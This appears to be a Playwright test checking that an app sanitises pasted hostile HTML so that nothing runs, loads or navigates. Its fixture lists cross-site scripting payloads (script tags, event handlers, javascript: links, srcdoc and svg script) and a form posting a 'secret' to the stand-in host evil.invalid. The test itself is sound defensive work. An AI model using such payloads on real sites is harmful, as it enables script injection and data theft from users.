import { expect, test } from '../fixtures/browser';
import { uniqueTitle } from '../fixtures/env';

/**
 * Everything a clipped page might try. None of it may run, load or navigate. There is no
 * <base href> here: main deliberately resolves relative URLs against a page's <base>, so an image
 * would then load from that host, which is a question of image-loading policy, not of inertness.
 */
const HOSTILE_HTML = `
  <h2>Budget leak</h2>
  <p>The safe paragraph survives: MARKER-SAFE-TEXT.</p>
  <script>window.__pwned = 'script'; alert('script');</script>
  <img src="x" onerror="window.__pwned = 'img'; alert('img')" alt="broken">
  <p onclick="window.__pwned = 'onclick'" onmouseover="window.__pwned = 'hover'">Hover or click me.</p>
  <a href="javascript:window.__pwned = 'link'; alert('link')" id="jslink">Click this link</a>
  <a href="JaVaScRiPt:alert('mixed case')">Mixed case link</a>
  <iframe src="https://evil.invalid/frame"></iframe>
  <iframe srcdoc="<script>parent.__pwned = 'srcdoc'</script>"></iframe>
  <form action="https://evil.invalid/steal" method="post"><input name="q" value="secret"><button>Send</button></form>
  <svg onload="window.__pwned = 'svg'"><script>window.__pwned = 'svg-script'</script></svg>
  <object data="https://evil.invalid/x.swf"></object>
  <embed src="https://evil.invalid/x.swf">
  <div style="background-image: url(https://evil.invalid/bg.png)">Styled block.</div>
  <link rel="stylesheet" href="https://evil.invalid/x.css">
  <meta http-equiv="refresh" content="0;url=https://evil.invalid/">
  <details open ontoggle="window.__pwned = 'toggle'"><summary>More</summary>Hidden detail.</details>
`;

test('a hostile pasted HTML article renders inert', async ({ app, api, page }) => {
  const title = uniqueTitle('Hostile HTML');
  const dialogs: string[] = [];
  const externalRequests: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    const url = new URL(request.url());
    if (url.protocol !== 'data:' && url.hostname !== '127.0.0.1') externalRequests.push(request.url());
  });

  await api.createArticle({ title, html: HOSTILE_HTML });

  await app.openArticle(title);
  const body = app.reader.getByRole('region', { name: title });
  await expect(body.getByText('MARKER-SAFE-TEXT')).toBeVisible();

  // Nothing active made it into the page.
  await expect(body.locator('script, iframe, frame, object, embed, form, input, svg, link, meta, base, style')).toHaveCount(0);
  await expect(body.locator('[onclick], [onerror], [onload], [onmouseover], [ontoggle], [style], [srcdoc]')).toHaveCount(0);
  await expect(body.locator('a[href^="javascript:" i]')).toHaveCount(0);

  // Interacting with what is left does nothing either.
  await body.getByText('Hover or click me.').hover();
  await body.getByText('Hover or click me.').click();
  await body.getByText('Click this link').click();
  await body.getByText('Styled block.').click();
  // Give any late event (an image error, a timer) the chance to fire before looking.
  await page.waitForTimeout(500);

  expect(await page.evaluate(() => (globalThis as { __pwned?: unknown }).__pwned)).toBeUndefined();
  expect(dialogs).toEqual([]);
  expect(externalRequests).toEqual([]);
  expect(page.url()).toContain('127.0.0.1');
  await app.expectNoErrors();
});
